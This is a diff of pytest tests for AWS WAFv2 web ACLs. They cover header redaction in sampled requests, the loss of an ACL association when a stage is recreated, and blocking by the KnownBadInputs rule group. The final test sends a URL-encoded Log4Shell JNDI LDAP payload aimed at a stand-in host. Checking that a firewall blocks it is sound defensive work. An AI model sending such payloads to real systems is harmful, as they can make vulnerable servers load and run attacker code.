@@ -238,3 +238,58 @@ def test_capacity_and_managed_groups_are_told(aws: Aws, ip_set: str) -> None:
     told = waf.describe_managed_rule_group(VendorName="AWS", Name="AWSManagedRulesCommonRuleSet", Scope="REGIONAL")
     assert told["Capacity"] == 700
     assert {"Name": "NoUserAgent_HEADER", "Action": {"Block": {}}} in told["Rules"]
+
+
+def test_data_protection_is_kept_and_holds(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
+    """What a web ACL is told to protect is shown again, and is in no sample."""
+    client, name = aws.client("wafv2"), unique("acl")
+    field = {"FieldType": "SINGLE_HEADER", "FieldKeys": ["x-api-key"]}
+    config = {"DataProtections": [{"Field": field, "Action": "SUBSTITUTION"}]}
+    made = client.create_web_acl(
+        Name=name,
+        Scope="REGIONAL",
+        DefaultAction={"Allow": {}},
+        Rules=[],
+        VisibilityConfig={**VISIBLE, "MetricName": name},
+        DataProtectionConfig=config,
+    )["Summary"]
+    shown = client.get_web_acl(Name=name, Scope="REGIONAL", Id=made["Id"])["WebACL"]
+    assert shown["DataProtectionConfig"] == config
+    client.associate_web_acl(WebACLArn=made["ARN"], ResourceArn=stage[0])
+    requests.get(stage[1], headers={"x-api-key": "a-key-of-no-system"}, verify=aws.ready["ca_bundle"], timeout=10)
+    now = datetime.now(UTC)
+    window = {"StartTime": now - timedelta(minutes=5), "EndTime": now + timedelta(minutes=5)}
+    sampled = client.get_sampled_requests(
+        WebAclArn=made["ARN"], RuleMetricName="ALL", Scope="REGIONAL", TimeWindow=window, MaxItems=10
+    )["SampledRequests"]
+    assert "REDACTED" in str(sampled)
+    assert "a-key-of-no-system" not in str(sampled)
+
+
+def test_a_deleted_stage_leaves_its_web_acl(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
+    """A stage of the same name that is made later is not protected by it."""
+    acl = make_acl(aws, unique("acl"), [])
+    aws.client("wafv2").associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage[0])
+    api = stage[0].split("/")[2]
+    aws.client("apigateway").delete_stage(restApiId=api, stageName="prod")
+    aws.client("apigateway").create_deployment(restApiId=api, stageName="prod")
+    assert "webAclArn" not in aws.client("apigateway").get_stage(restApiId=api, stageName="prod")
+    found = aws.client("wafv2").list_resources_for_web_acl(WebACLArn=acl["ARN"], ResourceType="API_GATEWAY")
+    assert found["ResourceArns"] == []
+
+
+def test_query_strings_are_inspected(aws: Aws, stage: tuple[str, str], unique: Callable[[str], str]) -> None:
+    """Rules on the whole query string see what the client sent."""
+    rule = {
+        "Name": "bad-inputs",
+        "Priority": 0,
+        "Statement": {
+            "ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet"}
+        },
+        "OverrideAction": {"None": {}},
+        "VisibilityConfig": {**VISIBLE, "MetricName": "bad-inputs"},
+    }
+    acl = make_acl(aws, unique("acl"), [rule])
+    aws.client("wafv2").associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage[0])
+    assert ask(aws, f"{stage[1]}?q=harmless").status_code == 200
+    assert ask(aws, f"{stage[1]}?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D").status_code == 403
